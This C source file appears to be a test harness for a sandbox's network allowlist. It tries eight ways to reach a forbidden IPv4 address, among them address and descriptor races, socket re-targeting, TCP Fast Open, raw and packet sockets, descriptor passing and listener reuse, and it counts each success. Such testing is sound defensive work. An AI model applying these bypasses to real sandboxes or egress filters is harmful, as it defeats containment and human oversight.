/*
 * Ways around a decision on network addresses. `network WHAT GOOD BAD [SECONDS]`: GOOD and BAD are
 * IPv4 addresses, of which only GOOD is allowed; TCP goes to port 80, UDP to 7778. What reached BAD
 * stands in its servers' logs. Prints how often a call succeeded.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

static struct sockaddr_in good, bad;
static struct sockaddr_in flipping;
static atomic_int running = 1;
static int shared = -1;

static const char request[] = "GET /page?attack HTTP/1.0\r\n\r\n";

static void *flip_address(void *unused) {
  (void)unused;
  for (unsigned i = 0; running; i++)
    *(volatile in_addr_t *)&flipping.sin_addr.s_addr =
        i & 1 ? bad.sin_addr.s_addr : good.sin_addr.s_addr;
  return NULL;
}

/* One number stands for a UNIX socket at one moment and for an INET one at the next. */
static void *flip_descriptor(void *kind) {
  int local = socket(AF_UNIX, *(int *)kind, 0);
  int outside = socket(AF_INET, *(int *)kind, 0);
  while (running) {
    dup2(local, shared);
    dup2(outside, shared);
  }
  return NULL;
}

static double now(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static void speak(int fd) {
  struct timeval limit = {.tv_usec = 300000};
  setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &limit, sizeof limit);
  if (send(fd, request, sizeof request - 1, MSG_NOSIGNAL) > 0) {
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof limit);
    char text[512];
    while (recv(fd, text, sizeof text, 0) > 0)
      ;
  }
}

static int connect_racing(double seconds) {
  pthread_t thread;
  flipping = good;
  pthread_create(&thread, NULL, flip_address, NULL);
  int reached = 0;
  for (double end = now() + seconds; now() < end;) {
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(fd, (struct sockaddr *)&flipping, sizeof flipping) == 0) {
      reached++;
      speak(fd);
    }
    close(fd);
  }
  running = 0;
  pthread_join(thread, NULL);
  return reached;
}

static int descriptor_racing(double seconds) {
  pthread_t thread;
  int kind = SOCK_STREAM, reached = 0;
  shared = dup(0);
  pthread_create(&thread, NULL, flip_descriptor, &kind);
  for (double end = now() + seconds; now() < end;) {
    if (connect(shared, (struct sockaddr *)&bad, sizeof bad) == 0)
      reached++;
    send(shared, request, sizeof request - 1, MSG_NOSIGNAL | MSG_DONTWAIT);
  }
  running = 0;
  pthread_join(thread, NULL);
  return reached;
}

static int datagrams_racing(double seconds) {
  pthread_t thread;
  int reached = 0, fd = socket(AF_INET, SOCK_DGRAM, 0);
  flipping = good;
  pthread_create(&thread, NULL, flip_address, NULL);
  struct iovec vector = {"attack", 6};
  for (double end = now() + seconds; now() < end;) {
    struct msghdr message = {.msg_name = &flipping,
                             .msg_namelen = sizeof flipping,
                             .msg_iov = &vector,
                             .msg_iovlen = 1};
    flipping.sin_port = htons(7778);
    struct mmsghdr several[2] = {{.msg_hdr = message}, {.msg_hdr = message}};
    reached += sendmsg(fd, &message, 0) > 0;
    reached += sendto(fd, "attack", 6, 0, (struct sockaddr *)&flipping, sizeof flipping) > 0;
    reached += sendmmsg(fd, several, 2, 0) > 0;
    usleep(200);
  }
  running = 0;
  pthread_join(thread, NULL);
  return reached;
}

/* A connected socket, allowed, is sent elsewhere. */
static int retarget(void) {
  int reached = 0;
  struct sockaddr_in g = good, b = bad;
  g.sin_port = b.sin_port = htons(7778);
  int fd = socket(AF_INET, SOCK_DGRAM, 0);
  connect(fd, (struct sockaddr *)&g, sizeof g);
  reached += sendto(fd, "attack", 6, 0, (struct sockaddr *)&b, sizeof b) > 0;
  reached += connect(fd, (struct sockaddr *)&b, sizeof b) == 0 && send(fd, "attack", 6, 0) > 0;
  int tcp = socket(AF_INET, SOCK_STREAM, 0);
  connect(tcp, (struct sockaddr *)&good, sizeof good);
  struct sockaddr none = {.sa_family = AF_UNSPEC};
  connect(tcp, &none, sizeof none);
  if (connect(tcp, (struct sockaddr *)&bad, sizeof bad) == 0) {
    reached++;
    speak(tcp);
  }
  return reached;
}

static int fast_open(void) {
  int reached = 0;
  for (int late = 0; late < 2; late++) {
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (late) { /* after a connection of the allowed kind has ended */
      connect(fd, (struct sockaddr *)&good, sizeof good);
      struct sockaddr none = {.sa_family = AF_UNSPEC};
      connect(fd, &none, sizeof none);
    }
    reached += sendto(fd, request, sizeof request - 1, MSG_FASTOPEN | MSG_NOSIGNAL,
                      (struct sockaddr *)&bad, sizeof bad) > 0;
    struct iovec vector = {(void *)request, sizeof request - 1};
    struct msghdr message = {
        .msg_name = &bad, .msg_namelen = sizeof bad, .msg_iov = &vector, .msg_iovlen = 1};
    int other = socket(AF_INET, SOCK_STREAM, 0);
    reached += sendmsg(other, &message, MSG_FASTOPEN | MSG_NOSIGNAL) > 0;
    int third = socket(AF_INET, SOCK_STREAM, 0), one = 1;
    setsockopt(third, IPPROTO_TCP, TCP_FASTOPEN_CONNECT, &one, sizeof one);
    reached += connect(third, (struct sockaddr *)&bad, sizeof bad) == 0 &&
               send(third, request, sizeof request - 1, MSG_NOSIGNAL) > 0;
    usleep(100000);
  }
  return reached;
}

/* Sockets below TCP and UDP. */
static int raw(void) {
  int reached = 0;
  struct sockaddr_in b = bad;
  int fd = socket(AF_INET, SOCK_RAW, IPPROTO_UDP);
  reached += fd >= 0 && sendto(fd, "attack", 6, 0, (struct sockaddr *)&b, sizeof b) > 0;
  reached += socket(AF_PACKET, SOCK_RAW, htons(3)) >= 0;
  reached += socket(AF_PACKET, SOCK_DGRAM, htons(3)) >= 0;
  reached += socket(40 /* AF_VSOCK */, SOCK_STREAM, 0) >= 0;
  reached += socket(AF_INET, SOCK_STREAM, 132 /* SCTP */) >= 0;
  return reached;
}

/* Sends through another process of the sandbox, which was given the socket. */
static int passed_on(void) {
  int pair[2];
  socketpair(AF_UNIX, SOCK_STREAM, 0, pair);
  char control[CMSG_SPACE(sizeof(int))] = {0}, byte = 'x';
  struct iovec vector = {&byte, 1};
  struct msghdr message = {.msg_iov = &vector,
                           .msg_iovlen = 1,
                           .msg_control = control,
                           .msg_controllen = sizeof control};
  if (fork() == 0) {
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    connect(fd, (struct sockaddr *)&good, sizeof good);
    struct cmsghdr *rights = CMSG_FIRSTHDR(&message);
    rights->cmsg_level = SOL_SOCKET;
    rights->cmsg_type = SCM_RIGHTS;
    rights->cmsg_len = CMSG_LEN(sizeof fd);
    memcpy(CMSG_DATA(rights), &fd, sizeof fd);
    sendmsg(pair[0], &message, 0);
    _exit(0);
  }
  if (recvmsg(pair[1], &message, 0) < 0)
    return 0;
  int fd;
  memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof fd);
  struct sockaddr none = {.sa_family = AF_UNSPEC};
  connect(fd, &none, sizeof none);
  if (connect(fd, (struct sockaddr *)&bad, sizeof bad) < 0)
    return 0;
  speak(fd);
  return 1;
}

/* A socket that listened goes out by itself. */
static int listener(void) {
  struct sockaddr_in any = {.sin_family = AF_INET, .sin_port = htons(9191)};
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  bind(fd, (struct sockaddr *)&any, sizeof any);
  listen(fd, 1);
  if (connect(fd, (struct sockaddr *)&bad, sizeof bad) == 0) {
    speak(fd);
    return 1;
  }
  int bound = socket(AF_INET, SOCK_STREAM, 0);
  any.sin_port = 0;
  bind(bound, (struct sockaddr *)&any, sizeof any);
  if (connect(bound, (struct sockaddr *)&bad, sizeof bad) < 0)
    return 0;
  speak(bound);
  return 1;
}

int main(int argc, char **argv) {
  if (argc < 4)
    return 2;
  good.sin_family = bad.sin_family = AF_INET;
  good.sin_port = bad.sin_port = htons(80);
  inet_pton(AF_INET, argv[2], &good.sin_addr);
  inet_pton(AF_INET, argv[3], &bad.sin_addr);
  double seconds = argc > 4 ? atof(argv[4]) : 1;
  const char *what = argv[1];
  int reached = !strcmp(what, "connect-race")      ? connect_racing(seconds)
                : !strcmp(what, "descriptor-race") ? descriptor_racing(seconds)
                : !strcmp(what, "datagram-race")   ? datagrams_racing(seconds)
                : !strcmp(what, "retarget")        ? retarget()
                : !strcmp(what, "fast-open")       ? fast_open()
                : !strcmp(what, "raw")             ? raw()
                : !strcmp(what, "passed-on")       ? passed_on()
                : !strcmp(what, "listener")        ? listener()
                                                   : -1;
  printf("%d\n", reached);
  return 0;
}
